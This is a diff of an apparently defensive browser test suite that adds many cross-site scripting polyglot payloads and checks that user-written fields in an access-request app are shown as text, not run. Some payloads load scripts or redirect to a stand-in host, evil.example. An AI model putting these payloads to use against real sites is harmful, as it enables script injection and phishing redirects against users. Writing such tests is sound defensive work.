@@ -25,7 +25,51 @@ POLYGLOTS = (
     "<a href=javascript:alert(7)>x</a>",
     "<iframe srcdoc='<script>alert(8)</script>'>",
     "<div hx-get=/ data-hx-trigger=load hx-on:click=alert(9)>x</div>",
+    "<img/src=x/onerror=alert(10)>",
+    "<body onload=alert(11)>",
+    "<input autofocus onfocus=alert(12)>",
+    "<details open ontoggle=alert(13)>",
+    "<video><source onerror=alert(14)></video>",
+    "<math><mi xlink:href=javascript:alert(15)>x</mi></math>",
+    "<style>@import'//evil.example'</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<form action=//evil.example><button>x</button></form>",
+    "<object data=javascript:alert(16)>",
+    "<embed src=javascript:alert(17)>",
+    "<svg><script>alert(18)</script></svg>",
+    "<svg><animate onbegin=alert(19) attributeName=x></svg>",
+    "<script src=//evil.example></script>",
+    "<!--><script>alert(20)</script>-->",
+    "<![CDATA[<script>alert(21)</script>]]>",
+    '" autofocus onfocus=alert(22) x="',
+    "' onmouseover=alert(23) '",
+    "` onclick=alert(24) `",
+    "&lt;script&gt;alert(25)&lt;/script&gt;",
+    "&#60;script&#62;alert(26)&#60;/script&#62;",
+    "%3Cscript%3Ealert(27)%3C/script%3E",
+    "\\u003cscript\\u003ealert(28)",
+    "<scr<script>ipt>alert(29)</scr</script>ipt>",
+    "<ScRiPt>alert(30)</sCrIpT>",
+    "data:text/html,<script>alert(31)</script>",
+    "{% raw %}{{ config }}{% endraw %}",
+    "\u202e<script>alert(32)</script>",
 )
+
+WRITTEN = (
+    "request.justification",
+    "package.name",
+    "request.message",
+    "package.description",
+    "request.guest_name",
+    "request.package_name",
+    "request.requestor_name",
+    "package.owner_name",
+    "request.sponsor_name",
+    "request.guest_address",
+)
+"""Every text that people or directories write and that pages show."""
 
 
 def focused_name(page: Page) -> str:
@@ -207,24 +251,27 @@ def test_s32_what_people_type_is_never_run(place: Place) -> None:
         f"/admin/packages/{place.world.package}": place.open("dee"),
         f"/catalog/{place.world.package}": place.open("eve"),
     }
-    for payload in POLYGLOTS:
-        hurt(place, payload)
+    for start in range(0, len(POLYGLOTS), len(WRITTEN)):
+        payloads = dict(zip(WRITTEN, POLYGLOTS[start:], strict=False))
+        hurt(place, payloads)
         for path, page in pages.items():
             page.goto(path)
-            expect(page.locator("main")).to_contain_text(payload[:12])
-            assert place.complaints == [], f"{path}: {payload}"
+            shown = page.locator("body").inner_text()
+            assert any(payload.split("\u202e")[-1] in shown for payload in payloads.values()), path
+            assert place.complaints == [], f"{path}: {payloads}"
+            assert page.url.endswith(path)
 
 
-def hurt(place: Place, payload: str) -> None:
-    """Write a payload wherever people can write."""
+def hurt(place: Place, payloads: dict[str, str]) -> None:
+    """Write payloads wherever people can write."""
     with transaction(place.rt.sessions) as tx:
-        request = tx.get_one(AccessRequest, place.world.waiting)
-        request.justification = request.message = request.guest_name = request.guest_company = payload
-        request.requestor_name = request.sponsor_name = request.package_name = payload
-        package = tx.get_one(AccessPackage, place.world.package)
-        package.name = package.description = package.owner_name = payload
-        for role in package.roles:
-            role.resource_name = payload
+        found: dict[str, object] = {
+            "request": tx.get_one(AccessRequest, place.world.waiting),
+            "package": tx.get_one(AccessPackage, place.world.package),
+        }
+        for column, payload in payloads.items():
+            kind, _, name = column.partition(".")
+            setattr(found[kind], name, payload)
 
 
 def test_s33_the_browser_refuses_to_run_text(place: Place) -> None:
